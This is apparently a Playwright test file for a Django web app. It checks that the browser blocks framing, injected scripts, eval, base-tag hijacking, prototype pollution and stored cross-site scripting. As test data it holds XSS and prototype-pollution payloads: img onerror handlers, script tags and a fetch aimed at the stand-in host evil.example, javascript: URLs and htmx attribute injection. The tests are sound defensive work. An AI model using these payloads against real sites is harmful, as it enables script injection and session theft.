"""What Chromium makes of attacks on the pages it shows (attacks 77, 105, 107, 118)."""

from collections.abc import Iterator

import pytest
from django_scopes import scope
from playwright.sync_api import BrowserContext, Page, Route, expect

from tests.attacks.hostile import LONG, SHORT, hostile_story
from tests.people import MemberClient, make_world
from tests.stories import Story

INJECTED = """() => new Promise((resolve) => {
  const refused = [];
  document.addEventListener("securitypolicyviolation", (event) => refused.push(event.effectiveDirective));
  const add = (tag, more) => document.body.append(Object.assign(document.createElement(tag), more));
  add("div", { innerHTML: "<img src=x onerror='window.hacked = 1'>" });
  add("script", { textContent: "window.hacked = 1" });
  add("script", { src: "https://evil.example/x.js" });
  add("script", { src: "data:text/javascript,window.hacked=1" });
  add("link", { rel: "stylesheet", href: "https://evil.example/x.css" });
  add("object", { data: "https://evil.example/x.swf" });
  add("iframe", { src: "https://evil.example/" });
  add("base", { href: "https://evil.example/" });
  setTimeout("window.hacked = 1", 0);
  setTimeout(() => { try { window.eval("window.hacked = 1"); } catch (error) { refused.push("eval"); } });
  fetch("https://evil.example/").catch(() => refused.push("fetch"));
  setTimeout(() => resolve(refused), 500);
})"""
KINDS = {
    "script-src-attr",
    "script-src-elem",
    "style-src-elem",
    "object-src",
    "frame-src",
    "base-uri",
    "eval",
}
STRANGE = [
    "?__proto__[hacked]=1&constructor[prototype][hacked]=1#__proto__[hacked]=1",
    f"#{SHORT}",
    "#<img src=x onerror=window.hacked=1>",
    "#javascript:window.hacked=1",
    "?hx-get=//evil.example/#[hx-on\\:load=1]",
    "#%E0%A4%A",
]


@pytest.fixture
def story(transactional_db: None) -> Iterator[Story]:
    world = make_world()
    with scope(tenant=world.hunan):
        yield Story(world)


@pytest.fixture
def hostile(transactional_db: None) -> Iterator[Story]:
    world = make_world()
    with scope(tenant=world.hunan):
        yield hostile_story(world)


def enter(context: BrowserContext, site: str, story: Story, name: str) -> None:
    """Let the person's session be that of the browser."""
    session = MemberClient(getattr(story.world, name)).cookies["sessionid"].value
    context.add_cookies([{"name": "sessionid", "value": session, "url": site}])


@pytest.fixture
def abroad(context: BrowserContext) -> list[str]:
    """What the browser asks of any other site, which answers everything."""
    asked: list[str] = []

    def answer(route: Route) -> None:
        asked.append(route.request.url)
        route.fulfill(content_type="text/javascript", body="window.hacked = 1")

    context.route("https://evil.example/**", answer)
    return asked


def test_attack_105_no_page_lets_itself_be_framed(context, site, story):
    enter(context, site, story, "colleague")
    pages = ["/", "/public/hunan/lists/", f"/applications/{story.filled.pk}/check/"]
    frames = "".join(f'<iframe src="{site}{path}"></iframe>' for path in pages)
    # The framing page is of the same site: from another one the browser's own rules would stop it first.
    framing = f"{site}/framing/"
    context.route(framing, lambda route: route.fulfill(content_type="text/html", body=frames))
    tab = context.new_page()
    failures: list[tuple[str, str]] = []
    tab.on("requestfailed", lambda request: failures.append((request.url, request.failure)))
    # A document that is not shown cannot report either: Chromium drops its reports.
    context.route("**/csp-report", lambda route: route.fulfill(status=204))
    tab.goto(framing)
    tab.wait_for_timeout(500)
    # Each page was answered, and the browser kept it out of the frame for what the answer's headers say.
    assert sorted(failures) == sorted((site + path, "net::ERR_BLOCKED_BY_RESPONSE") for path in pages)
    assert [frame.url for frame in tab.frames[1:]] == ["chrome-error://chromewebdata/"] * len(pages)


def test_attack_107_nothing_put_into_a_page_runs_or_loads_and_it_is_reported(
    context, site, story, abroad, caplog
):
    enter(context, site, story, "colleague")
    tab = context.new_page()
    for path in ("/", f"/applications/{story.filled.pk}/fill/basic/", "/no-such-page/"):
        tab.goto(f"{site}{path}")
        refused = tab.evaluate(INJECTED)
        assert set(refused) >= KINDS, path
        assert tab.evaluate("window.hacked") is None
        assert tab.evaluate("document.baseURI").startswith(site)
    assert abroad == []
    reports = [row.getMessage() for row in caplog.records if row.name == "greenmfg.violations"]
    assert {kind for kind in KINDS if any(kind in text for text in reports)} == KINDS
    assert any(f"/applications/{story.filled.pk}/fill/basic/" in text for text in reports)


def test_attack_118_what_stands_in_an_address_is_inert(page: Page, context, site, story, watch):
    enter(context, site, story, "owner")
    watch.expect(404)
    row = story.filled
    for path in (
        "/",
        "/desk/",
        f"/applications/{row.pk}/fill/basic/",
        "/public/hunan/lists/",
        "/no-such-page/",
    ):
        for strange in STRANGE:
            page.goto(f"{site}{path}{strange}")
            assert page.evaluate("[window.hacked, ({}).hacked]") == [None, None], path + strange
    assert page.locator("img[src=x]").count() == 0


def test_attack_118_what_stands_in_the_browsers_store_is_inert(page: Page, context, site, story):
    """A draft kept by the page itself comes back as text, whatever it says."""
    enter(context, site, story, "owner")
    path = f"/applications/{story.filled.pk}/fill/basic/"
    page.goto(path)
    page.evaluate(
        """(text) => {
          const form = document.querySelector("form[data-autosave-url]");
          const place = ["draft", form.dataset.user, form.dataset.autosaveUrl, "profile", "0", "0"].join("|");
          const draft = { value: text, state: "given", reason: text, seen: "1" };
          sessionStorage.setItem(place, JSON.stringify(draft).replace("{", '{"__proto__": {"hacked": 1}, '));
        }""",
        LONG,
    )
    page.reload()
    expect(page.locator("#field-profile textarea")).to_have_value(LONG)
    expect(page.locator("[data-save-state]")).to_contain_text("已保存")
    assert page.evaluate("[window.hacked, ({}).hacked]") == [None, None]


def test_attack_118_the_configuration_in_the_page_holds_no_text_of_people(page: Page, context, site, hostile):
    enter(context, site, hostile, "owner")
    page.goto("/desk/")
    told = page.locator("meta[name=htmx-config]").get_attribute("content")
    assert '"allowEval": false' in told
    assert '"selfRequestsOnly": true' in told
    assert page.locator("[hx-on], [data-hx-on], script:not([src]), [style]").count() == 0


def test_attack_077_hostile_texts_run_nowhere(page: Page, context, site, hostile, watch):
    """A complaint of the policy fails the test too: texts are escaped, not only stopped at the last wall."""
    row = hostile.filled
    enter(context, site, hostile, "owner")
    fill = f"/applications/{row.pk}/fill/basic/"
    for path in (
        "/desk/",
        f"/applications/{row.pk}/",
        f"/applications/{row.pk}/check/",
        "/accounts/members/",
        fill,
    ):
        page.goto(path)
        assert page.get_by_text(SHORT).first.is_visible() or LONG in page.content(), path
        assert page.evaluate("window.hacked") is None, path
    # A colleague changes the cell meanwhile: both texts are shown side by side.
    hostile.answer(row, {"profile": LONG + "?"})
    watch.expect(409)
    page.locator("#field-profile textarea").fill(LONG + "!")
    panel = page.locator(".conflict")
    expect(panel).to_contain_text(LONG + "?")
    expect(panel).to_contain_text(LONG + "!")
    expect(panel).to_contain_text(SHORT)
    assert page.evaluate("window.hacked") is None
    # A number that is none comes back in the words of the fault.
    watch.expect(422)
    page.goto(_page_of(page, "land_output", row.pk))
    page.locator("#field-land_output input[data-part=value]").fill(SHORT)
    expect(page.locator("#field-land_output [data-part=error]")).to_contain_text(SHORT)
    assert page.evaluate("window.hacked") is None


def _page_of(page: Page, key: str, pk: int) -> str:
    """The address of the page that asks for ``key``."""
    for path in page.locator("nav.pages a").evaluate_all("links => links.map(link => link.pathname)"):
        page.goto(path)
        if page.locator(f"#field-{key}").count():
            return path
    raise LookupError(key)
